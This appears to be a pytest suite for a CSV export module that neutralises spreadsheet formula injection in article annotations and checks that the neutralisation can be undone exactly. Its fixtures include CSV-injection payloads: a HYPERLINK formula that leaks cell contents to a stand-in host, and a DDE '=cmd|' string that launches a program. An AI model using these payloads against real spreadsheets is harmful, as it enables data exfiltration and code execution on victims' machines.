"""CSV export: what a spreadsheet receives must be inert, lossless and exactly as documented.

Article text is written by whoever published it, so a quote like `=HYPERLINK("http://…")` must
reach Excel as text, and an importer must be able to undo the neutralisation exactly.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.articles import text_sha256
from app.formats import csv_export
from app.formats.csv_export import (
    BOM,
    COLUMNS,
    GUARD_LEADING,
    GUARD_SKIPPED,
    neutralise,
    unneutralise,
    write_csv,
    write_csv_file,
)
from app.model import Document, Grade, TagType
from app.offsets import new_annotation
from db import repository
from db.connection import open_db

DANGEROUS = "=+-@\t\r\n"  # what a spreadsheet treats as the start of a formula
ATTACKS = ['=HYPERLINK("http://x.example/?leak="&A1,"x")', "+1", "-2", "@SUM(A1)", "\t=1", "\r=1"]

cell_text = st.one_of(
    st.text(),
    st.tuples(st.sampled_from(GUARD_LEADING + '"\n,'), st.text()).map("".join),
    st.sampled_from(ATTACKS + ["", "'", "''", "'=1", '🇸🇾,"\r\n', "a\u2028b"]),
)


def read_back(data: str) -> list[list[str]]:
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data[1:], newline="")))


def written(rows, *, guarded: bool = False) -> str:
    out = io.StringIO(newline="")
    write_csv(rows, out, guarded=guarded)
    return out.getvalue()


def test_columns_match_the_repository_query():
    assert COLUMNS == repository.EXPORT_COLUMNS


@pytest.mark.parametrize("attack", ATTACKS)
def test_excel_hostile_cells_are_neutralised(attack):
    cell = read_back(written([(attack,) * len(COLUMNS)]))[1][0]
    assert cell == "'" + attack
    assert unneutralise(cell) == attack


def test_apostrophe_is_guarded_so_undoing_is_exact():
    assert neutralise("'quoted'") == "''quoted'"
    assert unneutralise(neutralise("'quoted'")) == "'quoted'"
    assert neutralise("") == "" and unneutralise("") == ""
    assert neutralise("Homs =1") == "Homs =1"  # only the first character matters


@settings(max_examples=300)
@given(st.lists(st.lists(cell_text, min_size=3, max_size=3), max_size=8))
def test_any_text_is_inert_in_the_file_and_restored_exactly(rows):
    back = read_back(written([tuple(r) for r in rows]))
    assert back[0] == list(COLUMNS)
    assert len(back) == len(rows) + 1
    for original_row, cells in zip(rows, back[1:], strict=True):
        for original, cell in zip(original_row, cells, strict=True):
            assert not cell.startswith(tuple(DANGEROUS))
            if original.lstrip(GUARD_SKIPPED).startswith(tuple(GUARD_LEADING)):
                assert cell == "'" + original
            else:
                assert cell == original
            assert unneutralise(cell) == original


def test_numbers_and_nulls_are_not_touched():
    back = read_back(written([("-x", -3, None, 0, "@")]))
    assert back[1] == ["'-x", "-3", "", "0", "'@"]


def test_guarded_rows_get_no_python_work_per_cell(monkeypatch):
    """The fast path (SQL already guarded) must not run the per-cell guard again: it would both
    double-guard cells and cost a second pass over a million rows."""

    def fail(cell):
        raise AssertionError("neutralise called on the guarded path")

    monkeypatch.setattr(csv_export, "neutralise", fail)
    assert read_back(written([("'=1", 1)], guarded=True))[1] == ["'=1", "1"]


def test_file_has_bom_exact_header_and_crlf_line_ends(tmp_path):
    path = tmp_path / "out.csv"
    n = write_csv_file([("a\nb", 1), ("c", 2)], path)
    raw = path.read_bytes()
    assert n == 2
    assert raw.startswith(b"\xef\xbb\xbf" + ",".join(COLUMNS).encode() + b"\r\n")
    # The newline inside the quoted cell stays a bare \n; every record ends with \r\n.
    assert raw.endswith(b'"a\nb",1\r\nc,2\r\n')
    assert raw.count(b"\r\n") == 3


def test_a_failed_export_leaves_the_previous_file_and_no_debris(tmp_path):
    path = tmp_path / "out.csv"
    path.write_bytes(b"previous export")

    def rows():
        yield ("a", 1)
        raise RuntimeError("database went away")

    with pytest.raises(RuntimeError):
        write_csv_file(rows(), path)
    assert path.read_bytes() == b"previous export"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]


# ------------------------------------------------------------ through the repository

TEXT = "🇸🇾 =SUM(1) said @rebel_news; -2 dead, +3 hurt. 'Quoted' claim.\n"


def _add_doc(db, text=TEXT, title="=cmd|' /C calc'!A0", source="@source") -> Document:
    doc = Document(None, title, text, text_sha256(text), source, "-http://x.example")
    return repository.insert_document(db, doc)


def _tag(db, doc, needle, tag_name, **kw):
    tag = repository.find_tag_type(db, tag_name)
    start = doc.text.index(needle)
    ann = new_annotation(doc.text, doc.id, start, start + len(needle), tag.id, **kw)
    with db.atomic():
        repository.insert_annotations(db, [ann])
    return ann


def _export_both_ways(db) -> tuple[str, str]:
    in_sql = written(repository.export_rows(db, None, GUARD_LEADING, GUARD_SKIPPED), guarded=True)
    in_python = written(repository.export_rows(db, None), guarded=False)
    return in_sql, in_python


def test_sql_guard_equals_python_guard(db):
    doc = _add_doc(db)
    with db.atomic():
        repository.insert_tag_type(db, TagType(None, "+Weapon", "entity", "#000000"))
    _tag(db, doc, "=SUM(1)", "Actor", entity="=SUM(1)", note="-note", annotator="@me")
    _tag(db, doc, "@rebel_news", "+Weapon", entity="'quoted", note="\tTab")
    _tag(db, doc, "-2 dead", "Credibility", grade=Grade(4, "E"), note="\r=1")
    _tag(db, doc, "'Quoted'", "Location", entity="+33 Homs")
    in_sql, in_python = _export_both_ways(db)
    assert in_sql == in_python
    assert "''quoted" in in_sql and "'=SUM(1)" in in_sql and "'+Weapon" in in_sql


@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow])
@given(text=cell_text, entity=cell_text, note=cell_text, title=cell_text, source=cell_text)
def test_sql_guard_equals_python_guard_for_any_text(text, entity, note, title, source):
    text = text if text.strip() else "x" + text  # a span of white space is not an annotation
    database = open_db(None)
    try:
        doc = _add_doc(database, text, title, source)
        _tag(database, doc, text, "Actor", entity=entity, note=note)
        in_sql, in_python = _export_both_ways(database)
    finally:
        database.close()
    assert in_sql == in_python


def test_round_trip_keeps_offsets_ids_and_grades(db, tmp_path):
    doc = _add_doc(db)
    stored = [
        _tag(db, doc, "rebel_news", "Actor", entity="Rebel News"),
        _tag(db, doc, "-2 dead", "Credibility", grade=Grade(2, "B"), note="=cmd"),
        _tag(db, doc, "claim", "Credibility", grade=Grade(6)),
    ]
    path = tmp_path / "out.csv"
    n = write_csv_file(repository.export_rows(db, doc.id, GUARD_LEADING), path, guarded=True)
    assert n == 3
    with Path(path).open(encoding="utf-8-sig", newline="") as f:
        records = {r["annotation_id"]: r for r in csv.DictReader(f)}
    for ann in stored:
        r = {k: unneutralise(v) for k, v in records[ann.id].items()}
        # Code points, not UTF-16 units: the flag before these spans is 2 code points, 4 units.
        assert (int(r["start"]), int(r["end"])) == (ann.start, ann.end)
        assert TEXT[int(r["start"]) : int(r["end"])] == r["quote"] == ann.quote
        assert r["prefix"] == ann.prefix and r["suffix"] == ann.suffix
        assert r["entity"] == ann.entity and r["note"] == ann.note
        assert Grade.parse(r["credibility"], r["reliability"]) == ann.grade
        assert r["document_title"] == doc.title and r["source"] == "@source"
    assert records[stored[2].id]["reliability"] == ""  # not set → empty cell
